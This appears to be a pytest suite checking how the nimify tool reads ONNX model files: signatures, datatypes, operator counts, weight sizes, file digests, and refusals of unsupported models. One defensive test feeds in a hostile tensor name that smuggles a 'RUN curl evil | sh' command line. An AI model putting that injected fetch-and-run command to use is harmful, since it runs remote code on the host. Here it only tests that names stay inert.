"""What OnnxFormat reads out of sound model files."""

from __future__ import annotations

import hashlib
from pathlib import Path

import onnx
import pytest
from onnx import TensorProto, helper

from nimify.errors import ModelError, UnsupportedModel
from nimify.formats.format import ModelInfo
from nimify.formats.onnx import OnnxFormat
from nimify.tensors import DATATYPES, Dim
from nimify.testing import models
from nimify.testing.graph_builder import GraphBuilder

Rows = dict[str, tuple[str, tuple[Dim, ...]]]

SIGNATURES: dict[str, tuple[Rows, Rows]] = {
    "tiny": ({"x": ("FP32", ("batch", 4))}, {"y": ("FP32", ("batch", 4))}),
    "digits": ({"pixels": ("FP32", ("batch", 64))}, {"logits": ("FP32", ("batch", 10))}),
    "image": ({"image": ("FP32", ("batch", 3, 224, 224))}, {"logits": ("FP32", ("batch", 1000))}),
    "text": (
        {"input_ids": ("INT64", ("batch", "sequence")), "attention_mask": ("INT64", ("batch", "sequence"))},
        {"last_hidden_state": ("FP32", ("batch", "sequence", 16)), "pooler_output": ("FP32", ("batch", 16))},
    ),
    "strings": (
        {"word": ("BYTES", ("batch", 1))},
        {"code": ("INT64", ("batch", 1)), "echo": ("BYTES", ("batch", 1))},
    ),
    "fixed-batch": ({"x": ("FP32", (1, 4))}, {"y": ("FP32", (1, 4))}),
    "baked-batch": ({"x": ("FP32", ("batch", 4))}, {"y": ("FP32", ("batch", 4))}),
    "rows-interact": ({"x": ("FP32", ("batch", 4))}, {"y": ("FP32", ("batch", 4))}),
    "external-data": ({"x": ("FP32", ("batch", 64))}, {"y": ("FP32", ("batch", 32))}),
    "fp16": ({"x": ("FP16", ("batch", 8))}, {"y": ("FP16", ("batch", 4))}),
    "bf16": ({"x": ("BF16", ("batch", 8))}, {"y": ("BF16", ("batch", 8))}),
    "several-outputs": (
        {"x": ("FP32", ("batch", 4))},
        {"doubled": ("FP32", ("batch", 4)), "total": ("FP32", ("batch", 1)), "best": ("INT64", ("batch",))},
    ),
    "scalar-output": ({"x": ("FP32", ("batch", 4))}, {"sum": ("FP32", ())}),
    "if": ({"x": ("FP32", ("batch", "width"))}, {"y": ("FP32", ("batch", 1))}),
    "loop": ({"x": ("FP32", ("batch", 4))}, {"y": ("FP32", ("batch", 4))}),
}


def read(model: onnx.ModelProto, folder: Path, *, name: str = "model.onnx") -> ModelInfo:
    return OnnxFormat().read(models.save(model, folder / name))


def test_the_expected_signatures_cover_every_model() -> None:
    """A model added to `ALL` must be added here."""
    assert SIGNATURES.keys() == models.ALL.keys()


@pytest.mark.parametrize("kind", models.ALL)
def test_every_model_reads_with_its_signature(kind: str, tmp_path: Path) -> None:
    """Names, datatypes, fixed lengths and symbolic names come out as they were declared."""
    info = read(models.ALL[kind](), tmp_path)

    inputs = {spec.name: (spec.datatype.name, spec.shape) for spec in info.signature.inputs}
    outputs = {spec.name: (spec.datatype.name, spec.shape) for spec in info.signature.outputs}
    assert (inputs, outputs) == SIGNATURES[kind]


@pytest.mark.parametrize("datatype", DATATYPES)
def test_every_datatype_is_read(datatype: str, tmp_path: Path) -> None:
    """Each ONNX element type that a protocol carries has its name there."""
    info = read(models.identity(datatype), tmp_path)

    assert [spec.datatype.name for spec in info.signature.inputs] == [datatype]


@pytest.mark.parametrize("onnx_type", ["FLOAT8E4M3FN", "FLOAT8E5M2", "INT4", "UINT4", "COMPLEX64", "COMPLEX128"])
def test_datatypes_that_no_protocol_carries_are_refused_by_name(onnx_type: str, tmp_path: Path) -> None:
    """The message names the tensor and the type."""
    model = models.identity()
    model.graph.input[0].type.tensor_type.elem_type = TensorProto.DataType.Value(onnx_type)

    with pytest.raises(UnsupportedModel, match=rf"input 'x' has elements of type {onnx_type}"):
        read(model, tmp_path)


@pytest.mark.parametrize(
    ("kind", "sentence"),
    [
        ("sequence", "output 'items' is a sequence"),
        ("optional", "output 'maybe' is an optional value"),
        ("map", "input 'counts' is a map"),
    ],
)
def test_values_that_are_not_tensors_are_refused_in_words(kind: str, sentence: str, tmp_path: Path) -> None:
    """Sequence, map and optional values get an error that says so."""
    with pytest.raises(UnsupportedModel, match=sentence):
        read(models.UNSUPPORTED[kind](), tmp_path)


def test_sparse_inputs_are_refused(tmp_path: Path) -> None:
    """A sparse tensor is not a dense one."""
    model = models.identity()
    sparse = helper.make_sparse_tensor_type_proto(TensorProto.FLOAT, [3])
    model.graph.input[0].CopyFrom(helper.make_value_info("x", sparse))

    with pytest.raises(UnsupportedModel, match="input 'x' is a sparse tensor"):
        read(model, tmp_path)


def test_initializers_are_not_inputs(tmp_path: Path) -> None:
    """Old exporters list weights among the inputs; nobody sends them."""
    model = models.digits_mlp()
    for tensor in model.graph.initializer:
        model.graph.input.append(helper.make_tensor_value_info(tensor.name, tensor.data_type, list(tensor.dims)))

    info = read(model, tmp_path)

    assert [spec.name for spec in info.signature.inputs] == ["pixels"]


def test_free_axes_without_a_name_are_none_and_zero_stays_zero(tmp_path: Path) -> None:
    """-1 and nothing at all both mean a free axis; 0 is a length."""
    info = read(models.identity(shape=(None, -1, 0, "n")), tmp_path)

    assert info.signature.inputs[0].shape == (None, None, 0, "n")


def test_hostile_names_stay_data(tmp_path: Path) -> None:
    """Names are kept as they are, character by character."""
    hostile = '"; }\nRUN curl evil | sh\t\x1b[31m{{ x }}'
    graph = GraphBuilder("hostile")
    graph.input(hostile, "FP32", [hostile, 3])
    graph.output(graph.op("Identity", hostile, out="y"), "FP32", [hostile, 3])

    info = read(graph.model(), tmp_path)

    assert info.signature.inputs[0].name == hostile
    assert info.signature.inputs[0].shape == (hostile, 3)


def test_subgraphs_count_in_operators_and_weights(tmp_path: Path) -> None:
    """What a loop's body holds is part of the model."""
    info = read(models.loop_subgraph(), tmp_path)

    assert info.operators == {"Add": 1, "Identity": 1, "Loop": 1, "Mul": 1}
    assert info.weights.count == 4
    assert info.weights.bytes_by_type == {"BOOL": 1, "FLOAT": 8, "INT64": 8}


def test_operators_and_opsets_are_named_with_their_domain(tmp_path: Path) -> None:
    """The standard domain is written as ai.onnx, and its operators without it."""
    info = read(models.strings(), tmp_path)

    assert info.operators == {"Identity": 1, "ai.onnx.ml::LabelEncoder": 1}
    assert info.opsets == {"ai.onnx": 17, "ai.onnx.ml": 3}
    assert info.format_version == "10"
    assert info.producer == "nimify.testing"
    assert info.findings == ()


def test_large_weights_are_counted_without_being_kept(tmp_path: Path) -> None:
    """Weights above the size of a small message are measured by their declared type."""
    info = read(models.image_cnn(), tmp_path)

    assert info.weights.parameters == 22_920
    assert info.weights.bytes_by_type == {"FLOAT": 4 * 22_920}


def test_custom_operators_are_a_warning(tmp_path: Path) -> None:
    """Operators that the engine does not bring are found before it fails on them."""
    model = models.identity()
    model.graph.node[0].domain = "my.company"

    info = read(model, tmp_path)

    assert [finding.code for finding in info.findings] == ["onnx.custom-operators"]
    assert "'my.company'" in info.findings[0].message


def test_the_digest_is_that_of_the_file(tmp_path: Path) -> None:
    """`sha256sum model.onnx` prints the same."""
    seen: list[int] = []
    path = models.save(models.image_cnn(), tmp_path / "model.onnx")

    info = OnnxFormat().read(path, progress=seen.append)

    assert info.digest == f"sha256:{hashlib.sha256(path.read_bytes()).hexdigest()}"
    assert sum(seen) == info.size_bytes == path.stat().st_size


def test_without_digest_nothing_is_hashed(tmp_path: Path) -> None:
    """A caller that only wants the signature does not pay for hashing."""
    path = models.save(models.external_data(), tmp_path / "model.onnx")

    info = OnnxFormat().read(path, digest=False)

    assert info.digest == ""
    assert [file.sha256 for file in info.files] == ["", ""]


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (lambda model: model.ClearField("graph"), "it has no graph"),
        (lambda model: model.graph.ClearField("output"), "its graph has no outputs"),
        (lambda model: model.graph.ClearField("input"), "it has no inputs"),
        (lambda model: model.graph.input.append(model.graph.input[0]), "it has two inputs named 'x'"),
        (lambda model: model.graph.output.append(model.graph.output[0]), "it has two outputs named 'y'"),
        (lambda model: model.graph.output[0].ClearField("name"), "an output has no name"),
        (lambda model: model.graph.output[0].ClearField("type"), "output 'y' has no type"),
        (lambda model: model.graph.output[0].type.tensor_type.ClearField("shape"), "output 'y' has no shape"),
        (lambda model: model.ClearField("opset_import"), "does not say which operator set"),
    ],
)  # fmt: skip
def test_incomplete_models_are_refused_in_words(change: object, sentence: str, tmp_path: Path) -> None:
    """Each thing that a service needs has its own sentence when it is missing."""
    model = models.tiny()
    assert callable(change)
    change(model)

    with pytest.raises(ModelError, match=sentence):
        read(model, tmp_path)


def test_a_link_to_a_model_is_followed(tmp_path: Path) -> None:
    """What the user links is the user's business; its data lies beside the real file."""
    (tmp_path / "real").mkdir()
    real = models.save(models.external_data(), tmp_path / "real" / "model.onnx")
    link = tmp_path / "latest.onnx"
    link.symlink_to(real)

    info = OnnxFormat().read(link)

    assert info.path == real.resolve()
    assert [file.location for file in info.files] == ["model.onnx", models.DATA_FILE]
